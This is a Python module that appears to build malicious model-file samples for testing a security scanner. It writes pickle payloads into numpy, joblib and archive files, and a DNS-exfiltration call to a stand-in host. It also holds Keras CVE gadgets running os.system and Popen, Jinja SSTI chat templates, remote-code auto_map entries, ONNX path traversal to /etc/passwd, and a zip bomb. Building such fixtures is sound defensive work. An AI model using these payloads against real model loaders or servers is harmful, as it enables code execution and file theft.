def _npz(path: Path) -> None:
    """np.savez with one clean float member and one object member carrying the payload."""
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _payload_object()
    np.savez(path, weights=np.arange(4, dtype=np.float32), meta=arr)


@register(
    "npz-compressed-object-payload", "numpy", "npz-compressed-payload.npz", src.PICKLESCAN_TESTS
)
def _npz_compressed(path: Path) -> None:
    """np.savez_compressed (deflated members) with an object member carrying the payload."""
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _payload_object()
    np.savez_compressed(path, weights=np.arange(4, dtype=np.float32), meta=arr)


@register("npy-ssl-dns-exfil", "numpy", "npy-ssl-exfil.npy", src.PICKLESCAN_TESTS)
def _npy_ssl(path: Path) -> None:
    """Object .npy whose pickle calls ssl.get_server_certificate (DNS exfiltration)."""
    payload = Call(Global("ssl", "get_server_certificate"), (("garrison-test.invalid", 443),))
    path.write_bytes(npy_bytes(assemble(payload, 3)))


def _joblib_dump(path: Path, compress: Any) -> None:
    import joblib  # type: ignore[import-untyped]
    from sklearn.linear_model import LogisticRegression  # type: ignore[import-untyped]

    model = LogisticRegression(random_state=0).fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
    joblib.dump({"model": model, "hook": _payload_object()}, path, compress=compress)


@register("joblib-plain-payload", "joblib", "joblib-plain.joblib", src.MODELSCAN_README)
def _joblib_plain(path: Path) -> None:
    """joblib.dump of a real estimator next to a payload object, uncompressed."""
    _joblib_dump(path, 0)


for _method in ("zlib", "gzip", "bz2", "xz", "lzma"):

    def _joblib_compressed(path: Path, method: str = _method) -> None:
        _joblib_dump(path, (method, 3))

    REGISTRY.add(
        f"joblib-{_method}-payload",
        "joblib",
        f"joblib-{_method}.joblib",
        f"joblib.dump compressed with {_method}: estimator plus payload object",
        src.MODELSCAN_README,
        _joblib_compressed,
    )


# ---------------------------------------------------------------------------------------------
# Archives
# ---------------------------------------------------------------------------------------------


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return out.getvalue()


@register("zip-nested-zip-pickle", "zip", "nested.zip")
def _nested_zip(path: Path) -> None:
    """A zip inside a zip inside a zip, with a malicious model.pkl at the bottom."""
    inner = _zip_bytes({"model.pkl": assemble(os_system())})
    middle = _zip_bytes({"inner.zip": inner})
    path.write_bytes(_zip_bytes({"middle.zip": middle, "README.md": b"weights"}))


def _tar_bytes(members: dict[str, bytes], mode: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tf:  # type: ignore[call-overload]
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(body))
    return out.getvalue()


@register("tar-pickle", "tar", "model.tar")
def _tar(path: Path) -> None:
    """An uncompressed tar holding a malicious model.pkl."""
    path.write_bytes(_tar_bytes({"model/model.pkl": assemble(os_system())}, "w"))


@register("tgz-torch-injected", "tar", "model.tar.gz")
def _tgz(path: Path) -> None:
    """A tar.gz holding a torch checkpoint with an injected data.pkl."""
    path.write_bytes(_tar_bytes({"model/pytorch_model.pt": _torch_zip()}, "w:gz"))


@register("gzip-pickle", "gzip", "model.pkl.gz")
def _gzip(path: Path) -> None:
    """A gzip-compressed malicious pickle."""
    import gzip

    path.write_bytes(gzip.compress(assemble(os_system()), mtime=0))


@register("zlib-raw-pickle", "zlib", "model.pkl.z")
def _zlib(path: Path) -> None:
    """A bare zlib stream of a malicious pickle (joblib's historic format)."""
    path.write_bytes(zlib.compress(assemble(os_system())))


@register("zip-appended-to-pickle", "zip", "polyglot.pkl")
def _polyglot(path: Path) -> None:
    """A benign pickle with a zip appended; zip readers open it by its tail."""
    path.write_bytes(assemble([1, 2, 3], 2) + _zip_bytes({"data.pkl": assemble(os_system())}))


@register("zip-bomb-bzip2", "zip", "zip-bomb.zip")
def _zip_bomb(path: Path) -> None:
    """A 200 MiB member of zeros bzip2-compressed to a few hundred bytes (ratio > 10^5)."""
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as zf, zf.open("weights.bin", "w") as out:
        for _ in range(200):
            out.write(chunk)


def _number_7z(value: int) -> bytes:
    if value < 0x80:
        return bytes([value])
    if value < 0x4000:
        return bytes([0x80 | (value >> 8), value & 0xFF])
    return b"\xff" + struct.pack("<Q", value)


def seven_zip_stored(name: str, body: bytes) -> bytes:
    """A one-file 7z archive using the Copy (stored) coder, written by hand."""
    n = _number_7z
    names = name.encode("utf-16-le") + b"\0\0"
    header = (
        b"\x01\x04"  # Header, MainStreamsInfo
        + b"\x06"
        + n(0)
        + n(1)
        + b"\x09"
        + n(len(body))
        + b"\x00"  # PackInfo
        + b"\x07\x0b"
        + n(1)
        + b"\x00"
        + n(1)
        + b"\x01\x00"
        + b"\x0c"
        + n(len(body))
        + b"\x00"
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05"
        + n(1)
        + b"\x11"
        + n(len(names) + 1)
        + b"\x00"
        + names
        + b"\x00"  # FilesInfo
        + b"\x00"  # end of Header
    )
    tail = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail
    return start + body + header


@register("sevenzip-torch-wrapped", "7z", "model.7z", src.NULLIFAI)
def _seven_zip(path: Path) -> None:
    """nullifAI: a malicious pickle inside a 7z archive (stored, so bytes are visible)."""
    path.write_bytes(seven_zip_stored("archive/data.pkl", assemble(os_system(), 2)))


# ---------------------------------------------------------------------------------------------
# Keras
# ---------------------------------------------------------------------------------------------


def keras_base(path: Path) -> None:
    """A small real Keras 3 model saved as .keras (or legacy .h5 by the suffix)."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras  # type: ignore[import-untyped]

    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense")])
    model.save(path)


def lambda_code() -> str:
    """Base64 marshal of a lambda's code object that would run the payload if called."""
    expr = compile(f"lambda x: {PY_PAYLOAD} or x", "<garrison>", "eval")
    code = next(c for c in expr.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode()


def _lambda_fn() -> dict[str, Any]:
    return {
        "class_name": "__lambda__",
        "config": {"code": lambda_code(), "defaults": None, "closure": None},
    }


def _layer(cls: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def _rewrite_keras(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Make a real .keras at `path`, then rewrite its config.json with `edit`."""
    tmp = path.with_suffix(".base.keras")
    keras_base(tmp)
    with zipfile.ZipFile(tmp) as src_zip, zipfile.ZipFile(path, "w") as dst:
        for info in src_zip.infolist():
            body = src_zip.read(info)
            if info.filename == "config.json":
                config = json.loads(body)
                edit(config)
                body = json.dumps(config).encode()
            dst.writestr(info, body)
    tmp.unlink()


def _append_layer(layer: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"].append(layer)

    return edit


@register("keras-v3-lambda", "keras", "keras-lambda.keras", src.KERAS_CVE_2024_3660)
def _keras_lambda(path: Path) -> None:
    """A real .keras with a Lambda layer whose function is marshalled bytecode."""
    layer = _layer("Lambda", {"name": "lambda", "function": _lambda_fn(), "arguments": {}})
    _rewrite_keras(path, _append_layer(layer))


@register(
    "keras-v3-textvectorization-lambda",
    "keras",
    "keras-textvec-lambda.keras",
    src.KERAS_CVE_2024_3660,
)
def _keras_textvec(path: Path) -> None:
    """A `__lambda__` hidden in TextVectorization's standardize, not in a Lambda layer."""
    cfg = {
        "name": "text_vectorization",
        "max_tokens": 100,
        "standardize": _lambda_fn(),
        "split": "whitespace",
        "output_mode": "int",
    }
    _rewrite_keras(path, _append_layer(_layer("TextVectorization", cfg)))


@register(
    "keras-v3-layer-module-outside-keras",
    "keras",
    "keras-foreign-module.keras",
    src.KERAS_CVE_2025_1550,
)
def _keras_foreign(path: Path) -> None:
    """A layer whose module/class is subprocess.Popen (CVE-2025-1550)."""
    layer = _layer("Popen", {"args": ["sh", "-c", COMMAND]}, module="subprocess")
    _rewrite_keras(path, _append_layer(layer))


@register(
    "keras-v3-function-os-system", "keras", "keras-activation-os.keras", src.KERAS_CVE_2025_1550
)
def _keras_function(path: Path) -> None:
    """A Dense activation that deserialises to the function os.system."""

    def edit(config: dict[str, Any]) -> None:
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Dense":
                layer["config"]["activation"] = {
                    "module": "os",
                    "class_name": "function",
                    "config": "system",
                    "registered_name": "system",
                }

    _rewrite_keras(path, edit)


@register(
    "keras-v3-enable-unsafe-deserialization",
    "keras",
    "keras-enable-unsafe.keras",
    src.KERAS_CVE_2025_9906,
)
def _keras_unsafe(path: Path) -> None:
    """A config that calls keras.config.enable_unsafe_deserialization, then a Lambda."""

    def edit(config: dict[str, Any]) -> None:
        layers = config["config"]["layers"]
        layers.insert(
            1,
            {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "enable_unsafe_deserialization",
            },
        )
        layers.append(_layer("Lambda", {"name": "lambda", "function": _lambda_fn()}))

    _rewrite_keras(path, edit)


@register("keras-v3-get-file-gadget", "keras", "keras-get-file.keras", src.KERAS_CVE_2025_8747)
def _keras_get_file(path: Path) -> None:
    """A layer initializer that resolves to keras.utils.get_file (download/overwrite gadget)."""

    def edit(config: dict[str, Any]) -> None:
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Dense":
                layer["config"]["kernel_initializer"] = {
                    "module": "keras.utils",
                    "class_name": "function",
                    "config": "get_file",
                    "registered_name": "get_file",
                }

    _rewrite_keras(path, edit)


@register("keras-v3-pickle-asset", "keras", "keras-pickle-asset.keras")
def _keras_asset(path: Path) -> None:
    """A clean .keras with an extra assets/ member that is a malicious pickle."""
    keras_base(path)
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("assets/tokenizer.pkl", assemble(os_system()))


@register("keras-h5-lambda", "keras", "keras-lambda.h5", src.KERAS_CVE_2025_9905)
def _keras_h5(path: Path) -> None:
    """Legacy .h5 whose model_config has a Lambda (safe_mode is ignored for .h5)."""
    import h5py  # type: ignore[import-untyped]

    keras_base(path)
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        func = [lambda_code(), None, None]
        config["config"]["layers"].append(
            {
                "class_name": "Lambda",
                "config": {"name": "lambda", "function": func, "function_type": "lambda"},
            }
        )
        f.attrs["model_config"] = json.dumps(config)


# ---------------------------------------------------------------------------------------------
# TensorFlow SavedModel (protobuf written by hand: TensorFlow is not a dependency)
# ---------------------------------------------------------------------------------------------


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _field(number: int, value: bytes | str | int) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    data = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    body = _field(1, name) + _field(2, op) + b"".join(_field(3, i) for i in inputs) + attrs
    return _field(1, body)  # GraphDef.node


def _string_const(name: str, value: str) -> bytes:
    tensor = _field(1, 7) + _field(2, b"") + _field(8, value)  # DT_STRING, scalar, string_val
    attrs = _field(5, _field(1, "dtype") + _field(2, _field(6, 7)))
    attrs += _field(5, _field(1, "value") + _field(2, _field(8, tensor)))
    return _node(name, "Const", attrs=attrs)


def saved_model_pb(nodes: bytes) -> bytes:
    graph = nodes + _field(4, _field(1, 1808))  # versions.producer
    meta_info = _field(4, "serve") + _field(5, "2.16.1")
    meta_graph = _field(1, meta_info) + _field(2, graph)
    return _field(1, 1) + _field(2, meta_graph)


def _write_saved_model(path: Path, nodes: bytes) -> None:
    path.mkdir()
    (path / "variables").mkdir()
    (path / "saved_model.pb").write_bytes(saved_model_pb(nodes))


@register("savedmodel-readfile", "savedmodel", "savedmodel-readfile", src.MODELSCAN_SETTINGS)
def _tf_read(path: Path) -> None:
    """A SavedModel graph with a ReadFile op reading /etc/passwd."""
    nodes = _string_const("path", "/etc/passwd") + _node("read", "ReadFile", ("path",))
    _write_saved_model(path, nodes)


@register("savedmodel-writefile", "savedmodel", "savedmodel-writefile", src.MODELSCAN_SETTINGS)
def _tf_write(path: Path) -> None:
    """A SavedModel graph with a WriteFile op writing a file."""
    nodes = _string_const("path", "/tmp/garrison-test.txt") + _string_const("body", COMMAND)
    _write_saved_model(path, nodes + _node("write", "WriteFile", ("path", "body")))


@register("savedmodel-pyfunc", "savedmodel", "savedmodel-pyfunc", src.MODELSCAN_SETTINGS)
def _tf_pyfunc(path: Path) -> None:
    """A SavedModel graph with a PyFunc op (calls back into Python)."""
    attrs = _field(5, _field(1, "token") + _field(2, _field(2, "pyfunc_0")))
    nodes = _string_const("x", "garrison") + _node("call", "PyFunc", ("x",), attrs)
    _write_saved_model(path, nodes)


# ---------------------------------------------------------------------------------------------
# ONNX
# ---------------------------------------------------------------------------------------------


def _onnx_model(location: str | None = None, domain: str = "") -> bytes:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), "W")
    if location is not None:
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    op, opset = ("MatMul", []) if not domain else ("RunShell", [helper.make_opsetid(domain, 1)])
    node = helper.make_node(op, ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), *opset])
    data: bytes = model.SerializeToString()
    del onnx
    return data


@register(
    "onnx-external-data-absolute", "onnx", "onnx-external-absolute.onnx", src.ONNX_CVE_2022_25882
)
def _onnx_abs(path: Path) -> None:
    """An initializer whose external data location is the absolute path /etc/passwd."""
    path.write_bytes(_onnx_model("/etc/passwd"))


@register("onnx-external-data-dotdot", "onnx", "onnx-external-dotdot.onnx", src.ONNX_CVE_2024_27318)
def _onnx_dotdot(path: Path) -> None:
    """External data location escaping the model directory with a/../../ segments."""
    path.write_bytes(_onnx_model("weights/../../../../etc/passwd"))


@register("onnx-external-data-symlink", "onnx", "onnx-symlink/model.onnx", src.ONNX_CVE_2026_27489)
def _onnx_symlink(path: Path) -> None:
    """External data file is a symlink to /etc/hostname beside the model."""
    path.parent.mkdir(parents=True, exist_ok=True)
    (path.parent / "weights.bin").symlink_to("/etc/hostname")
    path.write_bytes(_onnx_model("weights.bin"))


@register(
    "onnx-external-data-parent-symlink",
    "onnx",
    "onnx-parent-symlink/model.onnx",
    src.ONNX_CVE_2026_27489,
)
def _onnx_parent_symlink(path: Path) -> None:
    """External data under a directory that is a symlink to /etc (parent-component escape)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    (path.parent / "shards").symlink_to("/etc")
    path.write_bytes(_onnx_model("shards/hostname"))


@register("onnx-custom-op-domain", "onnx", "onnx-custom-domain.onnx", src.ONNX_CUSTOM_OPS)
def _onnx_custom(path: Path) -> None:
    """A node in a custom-op domain: loading it needs a native custom-op library."""
    path.write_bytes(_onnx_model(domain="com.garrison.evil"))


# ---------------------------------------------------------------------------------------------
# GGUF chat templates and Hugging Face directories
# ---------------------------------------------------------------------------------------------

SSTI_TEMPLATES: dict[str, tuple[str, str]] = {
    "subclasses": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('" + COMMAND + "').read() }}"
        "{% endif %}{% endfor %}{{ messages[0]['content'] }}", src.LLAMA_CPP_SSTI),
    "globals-builtins": (
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + COMMAND
        + "').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}", src.SGLANG_SSTI),
    "cycler": ("{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}",
               src.PAYLOADS_SSTI),
    "joiner": ("{{ joiner.__init__.__globals__.os.popen('" + COMMAND + "').read() }}",
               src.PAYLOADS_SSTI),
    "namespace": ("{% set ns = namespace() %}{{ namespace.__init__.__globals__.os.popen('"
                  + COMMAND + "').read() }}", src.PAYLOADS_SSTI),
    "lipsum": ("{{ lipsum.__globals__['os'].popen('" + COMMAND + "').read() }}",
               src.PAYLOADS_SSTI),
    "attr-filter-escaped": (
        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
        "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}", src.PAYLOADS_SSTI),
    "concat-dunder": (
        "{% set a = '__cla' ~ 'ss__' %}{% set b = '__subcl' ~ 'asses__' %}"
        "{{ (()|attr(a)).__mro__[1]|attr(b) }}", src.PAYLOADS_SSTI),
}  # fmt: skip


def _gguf(path: Path, templates: str | list[dict[str, str]]) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("garrison-test")
    writer.add_chat_template(templates)
    writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


for _name, (_tpl, _source) in SSTI_TEMPLATES.items():

    def _gguf_maker(path: Path, template: str = _tpl) -> None:
        _gguf(path, template)

    REGISTRY.add(
        f"gguf-ssti-{_name}",
        "gguf",
        f"gguf-ssti-{_name}.gguf",
        f"GGUF tokenizer.chat_template with a Jinja SSTI payload ({_name})",
        _source,
        _gguf_maker,
    )


@register("gguf-ssti-named-template", "gguf", "gguf-ssti-named.gguf", src.SGLANG_SSTI)
def _gguf_named(path: Path) -> None:
    """The default template is clean; the SSTI hides in the named tool_use template."""
    clean = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    _gguf(
        path,
        [
            {"name": "default", "template": clean},
            {"name": "tool_use", "template": SSTI_TEMPLATES["cycler"][0]},
        ],
    )


def _safetensors_file(path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"w": np.zeros((2, 2), dtype=np.float32)}, str(path))


def _hf_dir(path: Path, config: dict[str, Any], files: dict[str, str]) -> None:
    path.mkdir()
    _safetensors_file(path / "model.safetensors")
    (path / "config.json").write_text(json.dumps(config, indent=2))
    for name, text in files.items():
        (path / name).write_text(text)


_EVIL_PY = f"import os\n\nos.system({COMMAND!r})\n\n\nclass EvilModel:\n    pass\n"


@register("hf-auto-map-remote-code", "hf-directory", "hf-auto-map", src.HF_REMOTE_CODE)
def _hf_auto_map(path: Path) -> None:
    """config.json auto_map points at modeling_evil.py beside the weights."""
    config = {
        "model_type": "evil",
        "architectures": ["EvilModel"],
        "auto_map": {"AutoModel": "modeling_evil.EvilModel"},
    }
    _hf_dir(path, config, {"modeling_evil.py": _EVIL_PY})


@register("hf-auto-map-other-repo", "hf-directory", "hf-auto-map-other-repo", src.HF_REMOTE_CODE)
def _hf_other_repo(path: Path) -> None:
    """auto_map pulls code from another Hub repository (attacker/repo--module.Class)."""
    config = {
        "model_type": "evil",
        "auto_map": {"AutoModel": "garrison-attacker/payload--modeling.Model"},
    }
    _hf_dir(path, config, {})


@register("hf-tokenizer-auto-map", "hf-directory", "hf-tokenizer-auto-map", src.HF_REMOTE_CODE)
def _hf_tok_auto_map(path: Path) -> None:
    """tokenizer_config.json auto_map names a custom tokenizer module with a payload."""
    tok = {
        "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]},
        "tokenizer_class": "EvilTokenizer",
    }
    files = {"tokenizer_config.json": json.dumps(tok), "tokenization_evil.py": _EVIL_PY}
    _hf_dir(path, {"model_type": "llama"}, files)


@register("hf-python-beside-weights", "hf-directory", "hf-python-beside-weights")
def _hf_py(path: Path) -> None:
    """No auto_map, but a Python file that runs a shell sits beside the weights."""
    _hf_dir(path, {"model_type": "llama"}, {"load_model.py": _EVIL_PY})


@register("hf-chat-template-ssti", "hf-directory", "hf-chat-template-ssti", src.SGLANG_SSTI)
def _hf_ssti(path: Path) -> None:
    """tokenizer_config.json chat_template carries a Jinja SSTI payload."""
    tok = {"chat_template": SSTI_TEMPLATES["globals-builtins"][0], "bos_token": "<s>"}
    _hf_dir(path, {"model_type": "llama"}, {"tokenizer_config.json": json.dumps(tok)})


@register(
    "hf-chat-template-jinja-file", "hf-directory", "hf-chat-template-jinja-file", src.SGLANG_SSTI
)
def _hf_jinja(path: Path) -> None:
    """A separate chat_template.jinja file (newer transformers layout) with SSTI."""
    _hf_dir(path, {"model_type": "llama"}, {"chat_template.jinja": SSTI_TEMPLATES["lipsum"][0]})


# ---------------------------------------------------------------------------------------------
# safetensors (hand-written headers: the library refuses to write these)
# ---------------------------------------------------------------------------------------------


def _safetensors_raw(header: bytes, body: bytes, length: int | None = None) -> bytes:
    size = len(header) if length is None else length
    return struct.pack("<Q", size) + header + body


def _st_header(tensors: dict[str, Any]) -> bytes:
    return json.dumps(tensors).encode()


@register(
    "safetensors-header-length-overflow",
    "safetensors",
    "st-length-overflow.safetensors",
    src.SAFETENSORS_SPEC,
)
def _st_len(path: Path) -> None:
    """Header length field far larger than the file (reader over-allocation/over-read)."""
    header = _st_header({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}})
    path.write_bytes(_safetensors_raw(header, b"\0" * 8, length=1 << 39))


@register("safetensors-bad-json", "safetensors", "st-bad-json.safetensors", src.SAFETENSORS_SPEC)
def _st_json(path: Path) -> None:
    """Header is not valid JSON."""
    path.write_bytes(_safetensors_raw(b'{"w": {"dtype": "F32", "shape": [2], ', b"\0" * 8))


@register(
    "safetensors-offsets-outside-file",
    "safetensors",
    "st-offsets-outside.safetensors",
    src.SAFETENSORS_SPEC,
)
def _st_outside(path: Path) -> None:
    """data_offsets point past the end of the file."""
    header = _st_header({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}})
    path.write_bytes(_safetensors_raw(header, b"\0" * 16))


@register(
    "safetensors-overlapping-tensors", "safetensors", "st-overlap.safetensors", src.SAFETENSORS_SPEC
)
def _st_overlap(path: Path) -> None:
    """Two tensors share bytes (a polyglot/parser-differential trick)."""
    header = _st_header(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    )
    path.write_bytes(_safetensors_raw(header, b"\0" * 24))


@register(
    "safetensors-dtype-shape-mismatch",
    "safetensors",
    "st-shape-mismatch.safetensors",
    src.SAFETENSORS_SPEC,
)
def _st_mismatch(path: Path) -> None:
    """dtype x shape (64 bytes) disagrees with the byte span (16 bytes)."""
    header = _st_header({"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 16]}})
    path.write_bytes(_safetensors_raw(header, b"\0" * 16))


SAMPLES = REGISTRY.samples
